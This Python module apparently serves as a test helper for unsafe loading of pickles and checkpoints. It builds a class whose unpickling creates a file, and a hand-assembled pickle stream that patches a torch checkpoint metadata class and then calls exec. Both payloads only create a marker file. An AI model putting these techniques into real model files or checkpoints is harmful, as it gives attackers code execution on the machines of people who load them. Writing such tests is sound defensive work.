"""What runs code when it is read without care."""

from __future__ import annotations

import pickle
import struct
from pathlib import Path
from typing import Any


class Payload:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return Path.touch, (self.path,)


def class_changing_index(ran: Path) -> bytes:
    """An index of a checkpoint that fails when it is read first, and makes a file when it is read again.

    Its first read gives a class of torch a `__setstate__` and fails at what comes next. In a process that kept the
    class so, the next read does not fail there, and goes on to the code.
    """
    metadata = "torch.distributed.checkpoint.metadata"
    changed = _name(metadata, "BytesStorageMetadata") + pickle.NONE + pickle.EMPTY_DICT + pickle.MARK
    changed += _text("__setstate__") + _name(metadata, "MetadataIndex") + _text("__name__") + pickle.BININT1 + b"\x05"
    changed += pickle.SETITEMS + pickle.TUPLE2 + pickle.BUILD + pickle.POP
    code = _name("builtins", "exec") + _text(f"open({str(ran)!r}, 'w')") + pickle.TUPLE1 + pickle.REDUCE
    return pickle.PROTO + b"\x02" + changed + code + pickle.STOP


def _name(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _text(text: str) -> bytes:
    return pickle.BINUNICODE + struct.pack("<I", len(text.encode())) + text.encode()
